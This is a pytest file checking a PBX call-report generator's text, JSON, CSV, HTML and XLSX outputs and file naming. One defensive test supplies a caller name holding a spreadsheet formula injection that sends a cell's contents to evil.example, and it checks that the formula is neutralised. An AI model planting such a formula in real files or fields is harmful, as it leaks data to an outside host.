"""Golden outputs of every format over the fixture day (and a generated week for the heat map).

JSON, text and CSV are compared byte for byte; HTML and XLSX by structure (sections, tables,
images that decode as PNG; sheets, headers, cells), since the PNG bytes depend on the
matplotlib version.
"""

from __future__ import annotations

import base64
import io
import re
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest

from pbxgate.cdr.report.build import period_label
from pbxgate.cdr.report.formats import SUFFIX, file_name, render
from pbxgate.cdr.report.html import render_html
from pbxgate.cdr.report.tabular import render_csv, render_json
from pbxgate.cdr.report.text import render_text
from pbxgate.cdr.window import Window
from tests.report.helpers import day_report, week_report

GOLDENS = Path(__file__).parent / "goldens"
PNG = b"\x89PNG\r\n\x1a\n"


@pytest.mark.parametrize("language", ["ru", "en"])
def test_text_json_csv_goldens(language: str, golden: object) -> None:
    report = day_report(language)
    golden(GOLDENS / f"report_day_{language}.txt", render_text(report))  # type: ignore[operator]
    golden(GOLDENS / f"report_day_{language}.json", render_json(report))  # type: ignore[operator]
    golden(GOLDENS / f"report_day_{language}.csv", render_csv(report))  # type: ignore[operator]


def test_week_goldens(golden: object) -> None:
    report = week_report("ru")
    golden(GOLDENS / "report_week_ru.txt", render_text(report, max_rows=5))  # type: ignore[operator]
    golden(GOLDENS / "report_week_en.csv", render_csv(week_report("en")))  # type: ignore[operator]


def test_text_caps_long_lists() -> None:
    report = week_report("en")
    assert len(report["missed"]) > 5
    text = render_text(report, max_rows=5)
    assert f"… {len(report['missed']) - 5} more" in text


class Page(HTMLParser):
    """Collects what a reader sees: headings, table rows, images, links, scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.ids: list[str] = []
        self.images: list[dict[str, str | None]] = []
        self.rows = 0
        self.scripts = 0
        self.external: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if tag == "h2" and a.get("id"):
            self.ids.append(str(a["id"]))
        if tag == "img":
            self.images.append(a)
        if tag == "tr":
            self.rows += 1
        if tag == "script":
            self.scripts += 1
        if tag in ("link", "script", "img") and re.match(
            r"https?:", a.get("src") or a.get("href") or ""
        ):
            self.external.append(str(a))


def parse(html: str) -> Page:
    page = Page()
    page.feed(html)
    return page


def test_html_file_is_self_contained_with_charts() -> None:
    report = week_report("ru")
    html = render(report, "html").decode()
    page = parse(html)
    assert page.ids == [
        "kpis",
        "hourly",
        "daily",
        "heatmap",
        "top-callers",
        "top-dids",
        "missed",
        "extensions",
        "recordings",
    ]
    assert [i["alt"] for i in page.images] == [
        "Входящие звонки по часам",
        "Входящие звонки по дням",
        "Входящие звонки: день недели × час",
    ]
    for img in page.images:
        src = str(img["src"])
        assert src.startswith("data:image/png;base64,")
        assert base64.b64decode(src.split(",", 1)[1]).startswith(PNG)
    assert page.scripts == 0 and page.external == []
    # KPI grid 2 rows + top callers 5+1 + DIDs 3+1 + missed (capped at 100) + extensions
    assert page.rows == 2 + 6 + 4 + min(100, len(report["missed"])) + 1 + len(
        report["extensions"]
    ) + 1 + (min(100, len(report["recordings"])) + 1 if report["recordings"] else 0)
    assert "▲" in html or "▼" in html


def test_html_structure_golden(golden: object) -> None:
    """The day's page with placeholder image sources: the markup itself is stable."""
    html = render_html(day_report("en"), {"hourly": "cid:hourly"})
    golden(GOLDENS / "report_day_en.html", html)  # type: ignore[operator]


def test_xlsx_structure() -> None:
    openpyxl = pytest.importorskip("openpyxl")
    report = week_report("ru")
    book = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx")))
    assert book.sheetnames == [
        "period",
        "kpis",
        "hourly",
        "daily",
        "heatmap",
        "top_callers",
        "top_dids",
        "missed",
        "extensions",
        "recordings",
    ]
    kpis = book["kpis"]
    assert [c.value for c in kpis[1]][:4] == ["Показатель", "unit", "Значение", "Было"]
    first = report["kpis"][0]["value"]
    assert [kpis.cell(row=2, column=i).value for i in (1, 3)] == ["calls", first]
    hourly = book["hourly"]
    assert hourly.max_row == 25 and len(hourly._charts) == 1
    assert sum(hourly.cell(row=r, column=6).value for r in range(2, 26)) == sum(
        r["total"] for r in report["hourly"]
    )
    heat = book["heatmap"]
    assert heat.cell(row=2, column=1).value == "Mon" and heat.max_column == 25
    assert book["missed"].max_row == len(report["missed"]) + 1


def test_a_caller_s_text_is_never_a_formula_nor_breaks_the_file() -> None:
    """A caller ID name is the caller's to choose: one that starts with = ran as a formula in
    the XLSX (openpyxl stores it so) and in the CSV; a control character in it failed the
    whole XLSX (a schedule's every retry). Numbers stay numbers."""
    openpyxl = pytest.importorskip("openpyxl")
    report = day_report("en")
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    report["top_callers"] = [
        {"number": "+79161234567", "name": evil, "calls": 1, "answered": 1, "missed": 0,
         "talk_seconds": 5},
        {"number": "84991112233", "name": "Ivan\x1bPetrov", "calls": 1, "answered": 0,
         "missed": 1, "talk_seconds": 0},
    ]  # fmt: skip
    sheet = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx")))["top_callers"]
    cells = [(sheet.cell(row=r, column=2).value, sheet.cell(row=r, column=2).data_type)
             for r in (2, 3)]  # fmt: skip
    assert cells == [(evil, "s"), ("IvanPetrov", "s")]
    assert sheet.cell(row=2, column=1).value == "+79161234567"
    lines = render_csv(report).splitlines()
    row = next(line for line in lines if line.startswith("+79161234567,"))
    assert row.split(",", 1)[1].startswith("\"'=HYPERLINK(")  # quoted, with a leading '
    assert any(line.startswith("84991112233,IvanPetrov,") for line in lines)


def test_file_names() -> None:
    assert file_name(day_report(), "xlsx") == "calls-2016-03-18.xlsx"
    assert file_name(week_report(), "csv") == "calls-2024-03-04..2024-03-10.csv"


@pytest.mark.parametrize(
    ("start", "end", "label", "name"),
    [
        ("2016-03-18 00:00:00", "2016-03-19 00:00:00", "2016-03-18", "calls-2016-03-18"),
        ("2016-03-01 00:00:00", "2016-04-01 00:00:00", "2016-03-01 – 2016-03-31",
         "calls-2016-03-01..2016-03-31"),
        ("2026-11-01 00:00:00", "2026-12-01 00:00:00", "2026-11-01 – 2026-11-30",
         "calls-2026-11-01..2026-11-30"),
        ("2016-03-18 12:00:00", "2016-03-18 13:30:00", "2016-03-18 12:00 .. 2016-03-18 13:30",
         "calls-2016-03-18_1200..2016-03-18_1330"),
        ("2016-03-18 12:00:00", "2016-03-20 12:00:00", "2016-03-18 12:00 .. 2016-03-20 12:00",
         "calls-2016-03-18_1200..2016-03-20_1200"),
    ],
)  # fmt: skip
def test_file_names_name_the_last_day_the_label_names(
    start: str, end: str, label: str, name: str
) -> None:
    """The report's files named the exclusive end (``calls-2016-03-01..2016-04-01.csv`` beside a
    label "2016-03-01 – 2016-03-31"); now the last day included, as the label and the Calls
    page's export of the same window, with times when not whole days."""
    window = Window(datetime.fromisoformat(start), datetime.fromisoformat(end))
    report = day_report()
    report["period"] = {**report["period"], "from": start, "to": end, "days": window.days}
    assert period_label(window) == label
    for fmt, suffix in SUFFIX.items():
        assert file_name(report, fmt) == f"{name}.{suffix}"
